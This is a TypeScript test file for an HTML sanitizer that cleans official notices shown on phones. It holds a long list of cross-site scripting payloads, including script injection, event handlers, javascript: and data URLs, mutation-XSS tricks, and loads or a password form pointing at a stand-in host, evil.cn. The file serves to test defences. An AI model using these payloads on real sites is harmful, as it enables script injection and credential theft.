/** What an authority writes is shown in thousands of phones: whatever is sent, nothing in it may run, load or leave the page. */
import { textOfHtml } from '@common/rules/htmlText';
import fc from 'fast-check';
import { cleanHtml } from './cleanHtml';

const LINK = 'target="_blank" rel="noopener noreferrer"';

test.each([
  [
    '<h2>一、时间</h2><p>9月<strong>10</strong>日<br>前</p><hr>',
    '<h2>一、时间</h2><p>9月<strong>10</strong>日<br />前</p><hr />',
  ],
  ['<p><em>甲</em><u>乙</u><s>丙</s></p>', '<p><em>甲</em><u>乙</u><s>丙</s></p>'],
  ['<ul><li>甲</li></ul><ol><li>乙</li></ol>', '<ul><li>甲</li></ul><ol><li>乙</li></ol>'],
  [
    '<table><thead><tr><th colspan="2">论文</th></tr></thead><tbody><tr><td rowspan="3">甲</td></tr></tbody></table>',
    '<table><thead><tr><th colspan="2">论文</th></tr></thead><tbody><tr><td rowspan="3">甲</td></tr></tbody></table>',
  ],
  [
    '<a href="https://wsjkw.henan.gov.cn/?a=1&b=2">官网</a>',
    `<a href="https://wsjkw.henan.gov.cn/?a=1&amp;b=2" ${LINK}>官网</a>`,
  ],
  [
    '<a href="mailto:jw@luohe.gov.cn" target="_top" rel="opener">信箱</a>',
    `<a href="mailto:jw@luohe.gov.cn" ${LINK}>信箱</a>`,
  ],
  ['<a href="tel:0395-3352000">电话</a>', `<a href="tel:0395-3352000" ${LINK}>电话</a>`],
  ['<b>甲</b><i>乙</i><h1>丙</h1>', '<strong>甲</strong><em>乙</em><h2>丙</h2>'],
  ['学分 < 25 & "I类"', '学分 &lt; 25 &amp; "I类"'],
])('%s stays', (html, clean) => {
  expect(cleanHtml(html)).toBe(clean);
});

/** Classic attacks, among them those that turn into something else when a browser reads them a second time. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<ScRiPt src=//evil.cn/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.cn/pixel.png">',
  '<p onclick="alert(1)" style="position:fixed;inset:0;background:url(https://evil.cn)" class="ant-btn" id="root">甲</p>',
  '<p/onmouseover=alert(1)>甲</p>',
  '<a href="javascript:alert(1)">甲</a>',
  '<a href=" \u0001java\tscript:alert(1)">甲</a>',
  '<a href="&#106;&#x61;vascript&colon;alert(1)">甲</a>',
  '<a href="&#0000106avascript:alert(1)">甲</a>',
  '<a href="jAvAsCrIpT&#58;alert(1)">甲</a>',
  '<a href="vbscript:msgbox(1)">甲</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">甲</a>',
  '<a href="//evil.cn">甲</a>',
  '<a href="/console/sign-out">甲</a>',
  '<a href="https:/\\evil.cn" xlink:href="javascript:alert(1)">甲</a>',
  '<a href="https://a.cn" onfocus=alert(1) autofocus>甲</a>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>甲</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">甲</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><script>alert(1)</script></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  '<template><img src=x onerror=alert(1)></template>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="javascript:alert(1)">',
  '<style>@import "https://evil.cn/x.css"; p { behavior: url(x.htc) }</style>',
  '<link rel=stylesheet href="https://evil.cn/x.css"><base href="https://evil.cn/"><meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<form action="https://evil.cn"><input name=password><button formaction="javascript:alert(1)">登录</button></form>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)><marquee onstart=alert(1)>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<td colspan="2 onclick=alert(1)" rowspan="9999999">甲</td>',
  '<p title="><img src=x onerror=alert(1)>">甲</p>',
  '<a href="https://a.cn/&quot; onmouseover=&quot;alert(1)">甲</a>',
  '<a href="https://a.cn/`onmouseover=alert(1)">甲</a>',
  '<<p>img src=x onerror=alert(1)>',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<p>甲</p><plaintext><img src=x onerror=alert(1)>',
  '<body onload=alert(1)><frameset onload=alert(1)>',
  '<a href="https://a.cn" href="javascript:alert(1)" ping="https://evil.cn" download>甲</a>',
  '<a href="tel:1*21*13900000000%23">甲</a>',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<table><caption><svg></caption><style><a title="</style><img src=x onerror=alert(1)>">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '\ud800<scr\udfffipt>alert(1)</script><svg></p><foreignObject><iframe/onload=alert(1)>',
  '<a href="https://a.cn" is="x-a" slot="s" contenteditable="true" nonce="n" popovertarget="p">甲</a>',
];

/** All that may be between `<` and `>`, attribute for attribute. */
const ALLOWED =
  /^<(?:\/?(?:p|h2|h3|strong|em|u|s|ul|ol|li|blockquote|table|thead|tbody|tr|th|td)|\/a|br \/|hr \/|t[hd](?: (?:colspan|rowspan)="[1-9]\d?")+|a href="(?:(?:https?:\/\/|mailto:)[^"<>]*|tel:[+\d()-]+)" target="_blank" rel="noopener noreferrer")>$/i;
const foreign = (html: string) => (html.match(/<[^>]*>?/g) ?? []).filter((tag) => !ALLOWED.test(tag));
const wordsOf = (html: string) => textOfHtml(html).replaceAll(' ', '');
function expectHarmless(clean: string) {
  expect(foreign(clean)).toEqual([]);
  expect(clean).not.toMatch(/[^\P{Cc}\t\n]/u);
  // Read again, as the next who parses it does, it says the same and still has nothing else in it.
  expect(foreign(cleanHtml(clean))).toEqual([]);
  expect(wordsOf(cleanHtml(clean))).toBe(wordsOf(clean));
}

test.each(ATTACKS)('%s is made harmless', (attack) => {
  expectHarmless(cleanHtml(attack));
  expectHarmless(cleanHtml(`<table><tr><td>${attack}</td></tr></table>`));
});

test('so is any mixture of them, cut anywhere', () => {
  const piece = fc
    .tuple(fc.constantFrom(...ATTACKS), fc.nat(60), fc.nat(120))
    .map(([attack, from, length]) => attack.slice(from, from + length));
  fc.assert(
    fc.property(fc.array(piece, { minLength: 1, maxLength: 4 }), (pieces) =>
      expectHarmless(cleanHtml(pieces.join(''))),
    ),
    { numRuns: 1000 },
  );
});

test('ten thousand levels are none', () => {
  const clean = cleanHtml(`${'<blockquote>'.repeat(10_000)}甲`);
  expect(clean.match(/<blockquote>/g)?.length).toBeLessThanOrEqual(20);
  expect(textOfHtml(clean)).toBe('甲');
});
